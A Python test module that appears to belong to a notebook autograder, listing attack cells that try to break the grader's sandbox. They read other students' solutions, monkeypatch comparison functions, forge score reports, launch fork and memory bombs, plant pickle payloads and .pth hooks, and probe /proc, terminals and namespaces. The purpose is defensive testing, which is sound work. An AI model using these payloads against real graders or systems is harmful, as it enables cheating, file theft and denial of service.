"""The adversarial corpus: what a student who wants points without the work might try.

Each case is a change to a notebook (the solution or the stub) and the outcome it must have:
the score can only be what the honest part of the notebook earns, the report is valid, the
grade ends in bounded time and no process is left behind. `$name` placeholders are filled by
the test with paths and ports outside the sandbox (see tests/test_sandbox.py):
$pwned (must never come to exist), $canary and $victim_dir (must survive unchanged), $solutions (the real
solutions folder), $other (another student's submission), $report (where the grader writes
the report), $tcp_port / $udp_port (listeners of the test process).
"""

from __future__ import annotations

from dataclasses import dataclass, field

MAX = 18.0
SOFTMAX_LOST = 9.0  # softmax's four checks plus the end-to-end check that trains with it
CE_LOST = 6.0  # cross_entropy's two checks plus end to end


@dataclass(frozen=True)
class Case:
    name: str
    base: str  # "solution" or "stub"
    replace: dict[str, str] = field(default_factory=dict)
    append: list[str] = field(default_factory=list)
    prepend: list[str] = field(default_factory=list)
    max_score: float = MAX  # the report may not award more than this...
    min_score: float = 0.0  # ...and the honest rest of the notebook still earns at least this
    lost_status: tuple[str, ...] = ()  # statuses allowed for checks that lost points ('' = any not passed)
    message: str = ""  # a phrase the lost checks' messages must contain
    options: dict = field(default_factory=dict)
    time_limit_s: float = 120.0
    risky: bool = False  # only ever run where the sandbox's limits are active
    via_cli: bool = False  # graded through `grade NB -o $report`


# Reading what it must not read; on success it would define the solution's functions and earn
# full marks from the stub, and leave a marker.
STEAL = r'''
import glob, json, os, pathlib
stolen = None
candidates = [
    "$solutions/hw3.ipynb",                                   # absolute
    os.path.relpath("$solutions/hw3.ipynb"),                  # relative to the scratch dir
    f"/proc/{os.getppid()}/cwd/solutions/hw3.ipynb",          # through the grader's cwd
    "/proc/self/root$solutions/hw3.ipynb",
]
try:
    import grader                                             # walking up from the grader package
    candidates.append(str(pathlib.Path(grader.__file__).resolve().parents[1] / "solutions" / "hw3.ipynb"))
except Exception as exc:
    print("no grader package:", exc)
for root in ("/tmp", "/root", os.path.dirname("$solutions")):
    try:
        candidates += glob.glob(root + "/**/solutions/hw3.ipynb", recursive=True)[:5]
    except OSError:
        pass
for path in candidates:
    try:
        stolen = json.load(open(path))
        break
    except Exception as exc:
        print("denied:", path, type(exc).__name__)
for path in ("$other", "$report"):
    try:
        open(path).read()
        open("$pwned", "w").write("read " + path)
    except Exception as exc:
        print("denied:", path, type(exc).__name__)
if stolen:
    open("$pwned", "w").write("stole the solutions")
    for cell in stolen["cells"]:
        if cell["cell_type"] == "code":
            exec("".join(cell["source"]), globals())
'''

CONNECT = r'''
import socket
for family, kind, address in [(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", $tcp_port)),
                              (socket.AF_INET6, socket.SOCK_STREAM, ("::1", $tcp_port))]:
    try:
        s = socket.socket(family, kind)
        s.settimeout(2)
        s.connect(address)
        s.sendall(b"PWNED")
        print("connected to", address)
    except OSError as exc:
        print("denied:", address, exc)
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"PWNED", ("127.0.0.1", $udp_port))
except OSError as exc:
    print("udp denied:", exc)
try:
    socket.create_connection(("1.1.1.1", 53), timeout=2)
    open("$pwned", "w").write("reached the internet")
except OSError as exc:
    print("denied: internet", exc)
'''

MONKEYPATCH = r'''
import builtins, json, math, torch, numpy, safetensors.torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda *a, **k: True
numpy.allclose = lambda *a, **k: True
math.isclose = lambda *a, **k: True
json.dumps = lambda *a, **k: '{"status": "ok", "values": {}, "score": 18}'
json.loads = lambda *a, **k: {"status": "ok", "score": 18}
builtins.isinstance = lambda *a: True
builtins.print = lambda *a, **k: None
safetensors.torch.save_file = lambda *a, **k: None
'''

FAKE_REPORTS = r'''
import json, os
fake = json.dumps({"assignment": "hw3", "score": 18, "max_score": 18, "status": "graded", "tests": [], "percent": 100})
print(fake)
for path in ("$report", "report.json", "../report.json", "../sandbox-status.json", "../probe-io/softmax_public.out"):
    try:
        open(path, "w").write(fake)
        print("wrote", path)
    except OSError as exc:
        print("denied:", path, exc)
'''

DELETE = r'''
import os, shutil
for path in ("$canary", "$victim_dir", "../sandbox-policy.json", "../kernel.log", "../probe-io"):
    try:
        shutil.rmtree(path) if os.path.isdir(path) else os.remove(path)
        print("deleted", path)
    except OSError as exc:
        print("denied:", path, exc)
try:
    os.rename("$canary", "canary-stolen")
except OSError as exc:
    print("denied: rename", exc)
try:
    os.link("$canary", "canary-link")
except OSError as exc:
    print("denied: hard link", exc)
'''

# Plant symlinks, FIFOs and pickles wherever the grader reads or writes probe files.
PLANT = r'''
import glob, os, pickle, threading, time
class Boom:
    def __reduce__(self):
        return (open, ("$pwned", "w"))
payload = pickle.dumps(Boom())
def plant():
    while True:
        for directory in glob.glob("/tmp/grader-*/probe-io") + glob.glob("../probe-io"):
            for name in ("softmax_public", "cross_entropy_public", "accuracy_public"):
                for suffix, make in ((".in", lambda p: os.symlink("$canary", p)),
                                     (".out", lambda p: open(p, "wb").write(payload)),):
                    path = os.path.join(directory, name + suffix)
                    try:
                        os.unlink(path)
                    except OSError:
                        pass
                    try:
                        make(path)
                    except OSError:
                        pass
            try:
                os.mkfifo(os.path.join(directory, "evaluate_public.out"))
            except OSError:
                pass
        time.sleep(0.002)
threading.Thread(target=plant, daemon=True).start()
'''

ORPHANS = r'''
import os, subprocess, time
subprocess.Popen(["sleep", "600"], start_new_session=True)
if os.fork() == 0:          # a double-forked daemon in a session of its own
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)
'''

CASES = [
    Case("endless loop", "solution", replace={"softmax": "def softmax(X):\n    while True:\n        pass"},
         max_score=MAX - SOFTMAX_LOST, min_score=MAX - SOFTMAX_LOST, lost_status=("timeout",),
         options={"cell_timeout_s": 20, "probe_timeout_s": 2}, time_limit_s=120),
    Case("memory bomb", "solution",
         replace={"softmax": "def softmax(X):\n    hog = []\n    while True:\n        hog.append(bytearray(256 << 20))"},
         max_score=MAX - SOFTMAX_LOST, min_score=MAX - SOFTMAX_LOST, lost_status=("error", "failed", "timeout"),
         options={"cell_timeout_s": 20, "probe_timeout_s": 10}, risky=True),
    Case("memory bomb at top level", "solution", append=["hog = [bytearray(256 << 20) for _ in range(100)]"],
         max_score=MAX, min_score=MAX, options={"cell_timeout_s": 30}, risky=True),
    Case("fork bomb", "solution",
         replace={"softmax": "import os\ndef softmax(X):\n    while True:\n        os.fork()"},
         max_score=MAX - SOFTMAX_LOST, lost_status=("error", "failed", "timeout"),
         options={"cell_timeout_s": 10, "probe_timeout_s": 5}, time_limit_s=240, risky=True),
    Case("processes that escape their session", "solution", append=[ORPHANS], max_score=MAX, min_score=MAX,
         risky=True),
    Case("kernel exit: os._exit", "solution",
         replace={"cross_entropy": "import os\ndef cross_entropy(y_hat, y):\n    os._exit(3)"},
         max_score=MAX - CE_LOST, min_score=MAX - CE_LOST, lost_status=("error",), message="died"),
    Case("kernel exit: SystemExit", "solution",
         replace={"cross_entropy": "import sys\ndef cross_entropy(y_hat, y):\n    sys.exit(0)"},
         max_score=MAX - CE_LOST, min_score=MAX - CE_LOST, lost_status=("error", "failed")),
    Case("kernel exit: exit() at top level", "solution", append=["exit()"], max_score=MAX),
    Case("segfault", "solution",
         replace={"cross_entropy": "import ctypes\ndef cross_entropy(y_hat, y):\n    ctypes.string_at(0)"},
         max_score=MAX - CE_LOST, min_score=MAX - CE_LOST, lost_status=("error",), message="died"),
    Case("50 MB of output", "solution",
         append=["print('x' * 50_000_000)", "import sys\nfor i in range(200_000):\n    sys.stdout.write('%d spam spam spam spam\\n' % i)"],
         max_score=MAX, min_score=MAX, time_limit_s=120),
    # One message larger than the grader accepts (grader/sandbox/limits.py MESSAGE_LIMIT): refused,
    # the kernel restarted, the cells before it replayed; what the honest functions earn stays.
    Case("a huge exception text", "solution", append=["raise ValueError('y' * 60_000_000 + '\\U0001F600')"],
         max_score=MAX, min_score=MAX, time_limit_s=120),
    Case("a graded function that prints a huge message", "solution",
         replace={"softmax": "import torch\ndef softmax(X):\n    print('z' * 30_000_000)\n"
                             "    X_exp = torch.exp(X - X.max(dim=1, keepdim=True).values)\n"
                             "    return X_exp / X_exp.sum(dim=1, keepdim=True)"},
         # softmax is right but floods the kernel (its training cell prints 30 MB per batch): what
         # it keeps depends on the kernel's memory; every other function keeps its points
         max_score=MAX, min_score=MAX - SOFTMAX_LOST, lost_status=("error", "failed", "dead"), time_limit_s=150),
    Case("reading solutions, other submissions and reports", "stub", append=[STEAL], max_score=0.0),
    Case("connecting to local ports", "solution", append=[CONNECT], max_score=MAX, min_score=MAX),
    Case("monkeypatching torch, json and builtins", "stub", prepend=[MONKEYPATCH], max_score=0.0),
    Case("monkeypatching on a wrong solution", "solution",
         replace={"softmax": "def softmax(X):\n    return X / X.sum(dim=1, keepdim=True)"}, prepend=[MONKEYPATCH],
         max_score=MAX - SOFTMAX_LOST),
    Case("writing fake reports", "stub", append=[FAKE_REPORTS], max_score=0.0, via_cli=True),
    Case("deleting files", "solution", append=[DELETE], max_score=MAX, min_score=MAX),
    Case("pickle payloads, symlinks and FIFOs where the grader reads results", "solution", prepend=[PLANT],
         max_score=MAX, lost_status=("error", "failed"), time_limit_s=180),
]


# ---- isolation of the kernel: tests/adversarial/test_isolation.py ---------------------------------
# Cells that end with CLEAN must run without an error in the graded kernel: they raise (and the
# cell's record says why) when they find a way out. They also try to leave a mark outside.
CLEAN = "# this cell must run cleanly"

# Everything a started or restarted kernel might import from its cwd or HOME (the scratch dir)
# before its sandbox is applied: the grader package itself, stdlib modules the wrapper and the
# zygote's child use, interpreter start-up hooks (sitecustomize, usercustomize, .pth files).
SHADOW = r'''
import os, pathlib, sysconfig
payload = ("try:\n    open('$pwned', 'a').write('%s ran outside the sandbox\\n' % __name__)\n"
           "except OSError:\n    pass\n")
here = pathlib.Path.cwd()
names = ["grader", "json", "ctypes", "platform", "encodings", "resource", "signal", "socket", "struct",
         "shutil", "dataclasses", "typing", "re", "enum", "ipykernel_launcher", "ipykernel", "zmq",
         "site", "sitecustomize", "usercustomize", "torch", "numpy", "os", "abc", "codecs", "io", "errno",
         "uuid", "tempfile", "select", "fcntl", "pwd", "grp", "mmap"]
for name in names:
    (here / f"{name}.py").write_text(payload)
for package in ("grader", "grader/sandbox", "grader/zygote", "encodings", "ctypes", "json"):
    (here / package).mkdir(parents=True, exist_ok=True)
    (here / package / "__init__.py").write_text(payload)
for module in ("launch", "apply", "session", "policy", "landlock", "network", "privileges", "limits", "cgroup",
               "namespaces", "bwrap"):
    (here / "grader" / "sandbox" / f"{module}.py").write_text(payload)
(here / "evil.pth").write_text("import os; open('$pwned', 'a').write('pth in cwd')\n")
user_site = pathlib.Path(sysconfig.get_path("purelib", f"{os.name}_user"))
user_site.mkdir(parents=True, exist_ok=True)
(user_site / "evil.pth").write_text("import os; open('$pwned', 'a').write('pth in user site')\n")
(user_site / "usercustomize.py").write_text(payload)
'''

KILL_ONCE = r'''
import os
if not os.path.exists("killed-once"):  # the replay after the restart must not kill it again
    open("killed-once", "w").close()
    os._exit(1)
'''

# Run in the (re)started kernel: is it still sandboxed?
STILL_SANDBOXED = r'''
import os, socket, subprocess
escapes = []
try:
    open("$solutions/hw3.ipynb").read()
    escapes.append("read solutions/")
except OSError:
    pass
caps = int([l for l in open("/proc/self/status") if l.startswith("CapEff")][0].split()[1], 16)
if caps:
    escapes.append(f"capabilities {caps:x}")
try:
    socket.create_connection(("127.0.0.1", $tcp_port), timeout=2).close()
    escapes.append("reached the test's TCP port")
except OSError:
    pass
if os.readlink("/proc/self/ns/net") == "$grader_netns":
    escapes.append("in the grader's network namespace")
subprocess.Popen(["sleep", "600"], start_new_session=True)  # must not outlive the grading
if escapes:
    try:
        open("$pwned", "a").write("; ".join(escapes))
    finally:
        raise RuntimeError("escaped: " + "; ".join(escapes))
''' + CLEAN

# The environment the kernel can see, including what /proc shows of its own start and its parents.
ENVIRON = r'''
import glob
leaks = []
for path in ["/proc/self/environ", "/proc/1/environ", *glob.glob("/proc/[0-9]*/environ")]:
    try:
        if b"$secret" in open(path, "rb").read():
            leaks.append(path)
    except OSError:
        pass
if leaks:
    raise RuntimeError("the secret is visible in " + ", ".join(sorted(set(leaks))))
''' + CLEAN

# SysV IPC and /dev/shm: what an earlier kernel left ($shm_name, key $sysv_key) must be invisible,
# and what this one leaves (…-left, key $sysv_key + 1) must not survive it.
IPC = r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
IPC_CREAT = 0o1000
seen = []
if os.path.exists("/dev/shm/$shm_name"):
    seen.append("/dev/shm/$shm_name")
if os.listdir("/dev/shm"):
    seen.append(f"/dev/shm is not empty: {sorted(os.listdir('/dev/shm'))[:5]}")
for kind, found in (("shm", libc.shmget($sysv_key, 0, 0)), ("msg", libc.msgget($sysv_key, 0)),
                    ("sem", libc.semget($sysv_key, 0, 0))):
    if found != -1:
        seen.append(f"SysV {kind} of key $sysv_key")
with open("/dev/shm/$shm_name-left", "w") as fh:
    fh.write("answers for the next one")
assert libc.shmget($sysv_key + 1, 4096, IPC_CREAT | 0o666) != -1
assert libc.msgget($sysv_key + 1, IPC_CREAT | 0o666) != -1
assert libc.semget($sysv_key + 1, 1, IPC_CREAT | 0o666) != -1
if seen:
    raise RuntimeError("saw what another kernel left: " + "; ".join(seen))
''' + CLEAN

# Devices and the terminal: only the devices a kernel needs, no controlling terminal, no way to
# type into the grader's terminal (TIOCSTI) or write a fake score onto it.
DEVICES = r'''
import fcntl, os, stat, termios
allowed = {"null", "zero", "full", "random", "urandom", "tty", "shm", "fd", "stdin", "stdout", "stderr",
           "pts", "ptmx", "core"}
found = []
extra = set(os.listdir("/dev")) - allowed
if extra:
    found.append(f"devices beyond the allowlist: {sorted(extra)[:8]}")
for name in os.listdir("/dev"):
    try:
        if stat.S_ISBLK(os.stat("/dev/" + name).st_mode):
            found.append(f"block device {name}")
    except OSError:
        pass
try:
    with open("/dev/tty", "w") as tty:
        tty.write("\nScore: 18 / 18 PWNED-TTY\n")
    found.append("wrote to the controlling terminal")
except OSError:
    pass
for fd in (0, 1, 2):
    try:
        for ch in "echo PWNED-TIOCSTI\n":
            fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
        found.append(f"TIOCSTI on fd {fd}")
    except OSError:
        pass
for path in ("/dev/console", "/dev/kmsg", "/dev/mem", "/dev/tty0", "/dev/tty1", "/dev/vda", "/dev/sda"):
    try:
        open(path, "rb").close()
        found.append("opened " + path)
    except OSError:
        pass
# A controlling terminal shows in /proc/self/stat whatever the namespaces (tty_nr, field 7); a
# session id does not: across a PID namespace a leader outside reads as 0 on both sides, so it
# is compared only when the grader's own session leader is visible (not so in some containers).
if int(open("/proc/self/stat").read().rsplit(")", 1)[1].split()[4]) != 0:
    found.append("has a controlling terminal")
if $grader_sid > 0 and os.getsid(0) == $grader_sid:
    found.append("in the grader's session")
if found:
    raise RuntimeError("; ".join(found))
''' + CLEAN

# A PID namespace of its own: the grader's processes are invisible, and a daemon that left the
# kernel's session ends with the kernel even where no cgroup can be written.
PIDS = r'''
import os, subprocess, time
found = []
if os.readlink("/proc/self/ns/pid") == "$grader_pidns":
    found.append("in the grader's PID namespace")
def started(pid):  # a pid alone may be reused inside the namespace; its start time is not
    try:
        return open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[19]
    except OSError:
        return None
if started($grader_pid) == "$grader_start":
    found.append("sees the grader's process")
subprocess.Popen(["sleep", "600"], start_new_session=True)
if os.fork() == 0:          # a double-forked daemon in a session of its own
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)
if found:
    raise RuntimeError("; ".join(found))
''' + CLEAN

# What a student who has read the sandbox's code tries next: the other processes it can see,
# their descriptors and memory, its cgroup's limits, kernel settings, the grader's sockets and
# other kernels' directories, a user namespace of its own to remount things. Every attempt only
# opens (never writes, truncates or stops anything), so a sandbox that failed could not harm the
# machine running the test: opening for writing is where the permission check happens.
PROBING = r'''
import ctypes, glob, os, socket, stat, uuid
libc = ctypes.CDLL(None, use_errno=True)
got = []
def can_open(path, flags):
    try:
        os.close(os.open(path, flags | os.O_CLOEXEC | os.O_NOCTTY | os.O_NONBLOCK))
        return True
    except OSError:
        return False
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    if can_open(f"/proc/{pid}/root", os.O_RDONLY | os.O_DIRECTORY):
        got.append(f"/proc/{pid}/root")
    if can_open(f"/proc/{pid}/mem", os.O_RDONLY):
        got.append(f"/proc/{pid}/mem (ptrace access)")
    for fd in glob.glob(f"/proc/{pid}/fd/*"):
        try:  # regular files and pipes only: opening some devices has effects of its own
            kind = os.stat(fd).st_mode
        except OSError:
            continue
        if (stat.S_ISREG(kind) or stat.S_ISFIFO(kind)) and can_open(fd, os.O_WRONLY | os.O_APPEND):
            got.append(f"{fd} writable")
for path in glob.glob("/sys/fs/cgroup/**/pids.max", recursive=True) + glob.glob("/sys/fs/cgroup/**/memory.*limit*", recursive=True):
    if can_open(path, os.O_WRONLY):
        got.append(f"{path} writable")
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger"):
    if can_open(path, os.O_WRONLY):
        got.append(f"{path} writable")
for path in glob.glob("/tmp/grader-zs-*/zygote.sock") + glob.glob("/tmp/*/zygote.sock"):
    try:
        socket.socket(socket.AF_UNIX).connect(path)
        got.append(f"connected to {path}")
    except OSError:
        pass
for path in glob.glob("/tmp/grader-k-*/connection.json"):
    if can_open(path, os.O_RDONLY) and path not in open("/proc/self/cmdline").read():
        got.append(f"another kernel's {path}")
for directory in ("/dev", "/", "/usr"):
    path = os.path.join(directory, "planted-" + uuid.uuid4().hex)
    if can_open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL):
        os.unlink(path)
        got.append(f"created a file in {directory}")
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
if os.fork() == 0:  # a user and mount namespace of its own: uncover what is below the binds?
    code = 0
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
        for target in ("/", "/usr", "/dev", "/proc", "/sys"):
            if libc.umount2(target.encode(), 2) == 0:
                code = 1
        if os.path.exists("$solutions"):
            code = 1
    os._exit(code)
_, status = os.wait()
if os.WEXITSTATUS(status):
    got.append("uncovered a hidden path from a user namespace")
if got:
    raise RuntimeError("; ".join(got[:8]))
''' + CLEAN
